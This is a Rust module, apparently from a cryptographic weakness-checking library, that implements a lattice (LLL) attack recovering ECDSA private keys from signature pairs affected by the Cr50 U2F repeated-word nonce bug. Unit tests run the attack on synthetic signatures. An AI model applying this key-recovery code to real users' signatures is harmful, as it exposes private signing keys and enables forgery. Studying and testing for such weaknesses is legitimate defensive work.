// [libs/lattice/src/cr50.rs]
/*!
 * =================================================================
 * APARATO: CR50 U2F SOLVER (V1.0)
 * CLASIFICACIÓN: LATTICE ATTACKS (ESTRATO L3)
 * RESPONSABILIDAD: RETÍCULA §4.F Y VERIFICACIÓN DE AUTOCONSISTENCIA
 *
 * `ArithmeticBug` es la única señal de control por excepción con
 * significado semántico en todo el sistema (§8 del diseño): nunca debe
 * capturarse localmente, sólo propagarse como un defecto de programación.
 * =================================================================
 */

use crate::errors::LatticeError;
use crate::lll::lll_reduce;
use paranoid_core_curve::field;
use rug::Integer;
use tracing::instrument;

/// Una firma ECDSA reducida a sus tres componentes relevantes para el ataque.
#[derive(Debug, Clone)]
pub struct EcdsaSample {
    pub r: Integer,
    pub s: Integer,
    pub z: Integer,
}

const WORD_BASIS_HEX: &str = "01010101";

fn word_basis(j: u32) -> Integer {
    let base = Integer::from_str_radix(WORD_BASIS_HEX, 16).expect("WORD_BASIS_HEX is valid hex");
    Integer::from(&base << (32 * j))
}

/// Construye la retícula (2W+2)×(2W+2) de §4.F.
pub fn build_lattice(n: &Integer, a: &Integer, b: &Integer, w: &Integer, words: u32) -> Vec<Vec<Integer>> {
    let words_usize = words as usize;
    let dim = 2 * words_usize + 2;
    let last_col = dim - 1;
    let mut lattice = vec![vec![Integer::from(0); dim]; dim];

    for j in 0..words_usize {
        let basis_j = word_basis(j as u32);
        lattice[j][j] = Integer::from(1);
        lattice[j][last_col] = field::mul_mod(&basis_j, a, n);

        let row = words_usize + j;
        lattice[row][row] = Integer::from(1);
        lattice[row][last_col] = field::mul_mod(&basis_j, b, n);
    }

    let diag_row = 2 * words_usize;
    lattice[diag_row][diag_row] = Integer::from(256);
    lattice[diag_row][last_col] = w.clone();
    lattice[last_col][last_col] = n.clone();
    lattice
}

fn reconstruct_word_sum(row: &[Integer], words: u32, offset: usize) -> Integer {
    (0..words as usize).fold(Integer::from(0), |acc, j| {
        acc + Integer::from(&row[offset + j] * &word_basis(j as u32))
    })
}

/// Resuelve el bug Cr50 U2F dadas dos firmas ECDSA sobre la misma clave
/// emisora. Retorna las conjeturas de clave privada que superan el chequeo
/// de autoconsistencia; propaga `ArithmeticBug` si una fila reducida
/// satisface la relación a·k₁+b·k₂≡w pero produce x₁ != x₂.
#[instrument(skip(sig1, sig2), level = "debug")]
pub fn solve_cr50_u2f(n: &Integer, sig1: &EcdsaSample, sig2: &EcdsaSample) -> Result<Vec<Integer>, LatticeError> {
    let bit_len = n.significant_bits();
    if bit_len == 0 || bit_len % 32 != 0 {
        return Err(LatticeError::InvalidDimension(format!(
            "curve order bit length {bit_len} is not divisible by 32"
        )));
    }
    let words = bit_len / 32;

    let a = field::mul_mod(&sig2.r, &sig1.s, n);
    let b = field::neg_mod(&field::mul_mod(&sig1.r, &sig2.s, n), n);
    let w = field::sub_mod(&field::mul_mod(&sig2.r, &sig1.z, n), &field::mul_mod(&sig1.r, &sig2.z, n), n);

    let lattice = build_lattice(n, &a, &b, &w, words);
    let reduced = lll_reduce(lattice);

    let r1_inv = field::inv_mod(&sig1.r, n).map_err(|e| LatticeError::ArithmeticBug(e.to_string()))?;
    let r2_inv = field::inv_mod(&sig2.r, n).map_err(|e| LatticeError::ArithmeticBug(e.to_string()))?;

    let mut guesses = Vec::new();
    for row in &reduced {
        let k1 = field::reduce(&reconstruct_word_sum(row, words, 0), n);
        let k2 = field::reduce(&reconstruct_word_sum(row, words, words as usize), n);

        let lhs = field::add_mod(&field::mul_mod(&a, &k1, n), &field::mul_mod(&b, &k2, n), n);
        if lhs != w {
            continue;
        }

        let x1 = field::mul_mod(&field::sub_mod(&field::mul_mod(&sig1.s, &k1, n), &field::reduce(&sig1.z, n), n), &r1_inv, n);
        let x2 = field::mul_mod(&field::sub_mod(&field::mul_mod(&sig2.s, &k2, n), &field::reduce(&sig2.z, n), n), &r2_inv, n);

        if x1 != x2 {
            return Err(LatticeError::ArithmeticBug(format!(
                "cr50 self-consistency check failed: x1={x1} x2={x2}"
            )));
        }
        guesses.push(x1);
    }
    Ok(guesses)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Construye un par de firmas sintéticas que exhiben la estructura
    /// Cr50 exacta (nonce = palabra repetida de 0x01010101 escalada) para
    /// verificar que el solucionador reconstruye la clave privada.
    fn synthetic_pair(n: &Integer, x: &Integer, words: u32) -> (EcdsaSample, EcdsaSample, Integer) {
        let g_like_scalar = Integer::from(7); // sustituto de un generador G bajo una relación lineal simplificada
        let r = field::reduce(&g_like_scalar, n);

        let byte0 = Integer::from(3);
        let byte1 = Integer::from(5);
        let k1 = (0..words as usize).fold(Integer::from(0), |acc, j| acc + Integer::from(&byte0 * &word_basis(j as u32)));
        let k2 = (0..words as usize).fold(Integer::from(0), |acc, j| acc + Integer::from(&byte1 * &word_basis(j as u32)));
        let k1 = field::reduce(&k1, n);
        let k2 = field::reduce(&k2, n);

        let k1_inv = field::inv_mod(&k1, n).unwrap();
        let k2_inv = field::inv_mod(&k2, n).unwrap();
        let z1 = Integer::from(11);
        let z2 = Integer::from(13);
        let s1 = field::mul_mod(&field::add_mod(&z1, &field::mul_mod(&r, x, n), n), &k1_inv, n);
        let s2 = field::mul_mod(&field::add_mod(&z2, &field::mul_mod(&r, x, n), n), &k2_inv, n);

        (
            EcdsaSample { r: r.clone(), s: s1, z: z1 },
            EcdsaSample { r, s: s2, z: z2 },
            x.clone(),
        )
    }

    #[test]
    fn rejects_curve_orders_not_divisible_by_thirty_two() {
        let n = Integer::from(1009u64);
        let sig = EcdsaSample { r: Integer::from(1), s: Integer::from(1), z: Integer::from(1) };
        assert!(matches!(solve_cr50_u2f(&n, &sig, &sig), Err(LatticeError::InvalidDimension(_))));
    }

    #[test]
    fn lattice_has_expected_dimension_for_given_word_count() {
        let n = Integer::from(1u64) << 64;
        let lattice = build_lattice(&n, &Integer::from(1), &Integer::from(1), &Integer::from(1), 2);
        assert_eq!(lattice.len(), 6);
        assert!(lattice.iter().all(|row| row.len() == 6));
    }

    #[test]
    fn recovers_private_key_from_word_repeated_nonce_pair() {
        // n de 64 bits (2 palabras de 32 bits), el tamaño mínimo para el ataque.
        let n = Integer::from_str_radix("ffffffffffffffc5", 16).unwrap();
        let x = Integer::from(999_999u64);
        let (sig1, sig2, expected_x) = synthetic_pair(&n, &x, 2);

        let guesses = solve_cr50_u2f(&n, &sig1, &sig2).unwrap();
        assert!(guesses.contains(&expected_x), "expected {expected_x} among {guesses:?}");
    }
}
